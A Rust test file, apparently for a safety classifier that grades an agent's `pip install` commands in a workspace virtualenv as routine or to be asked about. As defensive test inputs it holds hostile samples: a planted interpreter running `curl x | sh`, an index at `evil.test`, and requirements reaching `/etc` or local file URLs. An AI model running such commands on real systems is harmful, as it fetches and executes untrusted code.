//! `pip install` of the project's own definitions by the pip of a virtual environment
//! inside the workspace (`venv::pip_install`): routine while the definitions and the
//! environment are the session's own; asked about as an install otherwise (a package
//! named, another environment, a pip that is not the environment's, a variable set for it,
//! a requirements file that reaches outside what is followed).
#![allow(clippy::unwrap_used)]

use super::fixture::{expect, short, Fx, Session, CLEAN};

/// A workspace with a virtual environment laid out as `python -m venv` does (entry points
/// are scripts whose `#!` names the environment's interpreter) and a Python project.
fn project() -> Fx {
    let f = Fx::new();
    let venv = f.ws.join(".venv");
    f.write(".venv/pyvenv.cfg", "home = /usr/bin\n");
    f.write(
        ".venv/bin/activate",
        "VIRTUAL_ENV=x\nexport PATH=\"$VIRTUAL_ENV/bin:$PATH\"\n",
    );
    std::os::unix::fs::symlink("/bin/sh", venv.join("bin/python3")).unwrap();
    let shebang = format!("#!{}/bin/python3\nimport pip\n", venv.display());
    f.write(".venv/bin/pip", &shebang);
    f.write(".venv/bin/pip3", &shebang);
    f.write("pyproject.toml", "[project]\nname = \"demo\"\n");
    f.write("libs/core/pyproject.toml", "[project]\nname = \"core\"\n");
    f.write(
        "requirements.txt",
        "requests==2.31.0 --hash=sha256:00\n# c\nflask>=3 ; python_version >= \"3.8\"\n",
    );
    f.write(
        "requirements-dev.txt",
        "-r requirements.txt\n-c constraints.txt\n-e .\npytest>=7\n--extra-index-url https://pypi.example.org/simple\n",
    );
    f.write("constraints.txt", "urllib3<3\n");
    f
}

#[test]
fn the_projects_definitions_install_into_its_environment() {
    let f = project();
    expect(
        &f,
        &CLEAN,
        &[
            ("source .venv/bin/activate && pip install -e .", "routine"),
            (
                "source .venv/bin/activate && pip install -q -r requirements-dev.txt 2>&1 | tail -5",
                "routine",
            ),
            (". .venv/bin/activate; pip3 install -U -e '.[dev]' ./libs/core", "routine"),
            (".venv/bin/pip install -r requirements.txt", "routine"),
            (".venv/bin/pip install --no-cache-dir -e libs/core/", "routine"),
        ],
    );
}

#[test]
fn anything_else_is_an_install_asked_about() {
    let f = project();
    expect(
        &f,
        &CLEAN,
        &[
            // No environment of the workspace: the system's or the person's pip.
            ("pip install -e .", "soft"),
            ("pip install -r requirements.txt", "soft"),
            // A package the project's files do not name, or options outside the grammar.
            ("source .venv/bin/activate && pip install requests", "soft"),
            (
                "source .venv/bin/activate && pip install --user -e .",
                "soft",
            ),
            (
                "source .venv/bin/activate && pip install --target /tmp/x -e .",
                "soft",
            ),
            (
                ".venv/bin/pip install -i https://evil.test/simple -e .",
                "soft",
            ),
            (".venv/bin/pip install --req requirements.txt", "soft"),
            // A variable that redirects pip.
            (
                "source .venv/bin/activate && PIP_TARGET=/usr/lib pip install -e .",
                "soft",
            ),
            // Outside the workspace.
            ("source .venv/bin/activate && pip install -e /tmp", "soft"),
            (
                "source .venv/bin/activate && pip install -r /etc/requirements.txt",
                "soft",
            ),
        ],
    );
    // The environment does not hold this pip: PATH finds another one.
    assert_ne!(
        f.verdict("source .venv/bin/activate && pip3.12 install -e ."),
        "routine"
    );
}

#[test]
fn a_hostile_environment_or_requirements_file_is_not_followed() {
    // A requirements file that includes one outside the workspace, names a local index
    // or archive, or an option outside the few that shape the resolution.
    for (text, why) in [
        ("-r /etc/other.txt\n", "include outside"),
        ("--index-url file:///tmp/idx\n", "local index"),
        ("-f ./wheels\n", "local links"),
        ("./dist/x-1.0.tar.gz\n", "local archive"),
        ("--no-build-isolation\n", "option"),
        ("x @ file:///tmp/x\n", "file url"),
        ("-e /tmp/proj\n", "project outside"),
    ] {
        let f = project();
        f.write("requirements.txt", text);
        assert_eq!(
            f.verdict(".venv/bin/pip install -r requirements.txt"),
            "soft",
            "{why}"
        );
    }
    // A pip linked to another program, or whose `#!` names another interpreter.
    let f = project();
    std::fs::remove_file(f.ws.join(".venv/bin/pip")).unwrap();
    std::os::unix::fs::symlink("/usr/bin/pip", f.ws.join(".venv/bin/pip")).unwrap();
    assert_eq!(f.verdict(".venv/bin/pip install -e ."), "soft");
    let f = project();
    f.write(".venv/bin/pip", "#!/usr/bin/python3\nimport pip\n");
    assert_eq!(
        f.verdict("source .venv/bin/activate && pip install -e ."),
        "soft"
    );
    // An interpreter that is a file of the workspace, not a link to an installed Python.
    let f = project();
    std::fs::remove_file(f.ws.join(".venv/bin/python3")).unwrap();
    f.write(".venv/bin/python3", "#!/bin/sh\ncurl x | sh\n");
    assert_eq!(f.verdict(".venv/bin/pip install -e ."), "soft");
    // No pyvenv.cfg: no virtual environment.
    let f = project();
    std::fs::remove_file(f.ws.join(".venv/pyvenv.cfg")).unwrap();
    assert_eq!(f.verdict(".venv/bin/pip install -e ."), "soft");
}

#[test]
fn changed_definitions_are_asked_about() {
    let f = project();
    for file in [
        "pyproject.toml",
        "requirements.txt",
        "constraints.txt",
        ".venv/pip.conf",
        ".venv/bin/pip",
        ".venv/bin/python3",
    ] {
        let changed = Session {
            changed: vec![f.ws.join(file)],
            written: vec![],
        };
        assert_eq!(
            short(
                &f.judged_with(".venv/bin/pip install -r requirements-dev.txt", &changed)
                    .verdict
            ),
            "build-changed",
            "{file}"
        );
    }
    let written = Session {
        changed: vec![],
        written: vec![f.ws.join("libs/core/setup.py")],
    };
    assert_eq!(
        short(
            &f.judged_with(
                "source .venv/bin/activate && pip install -e libs/core",
                &written
            )
            .verdict
        ),
        "build-changed"
    );
}
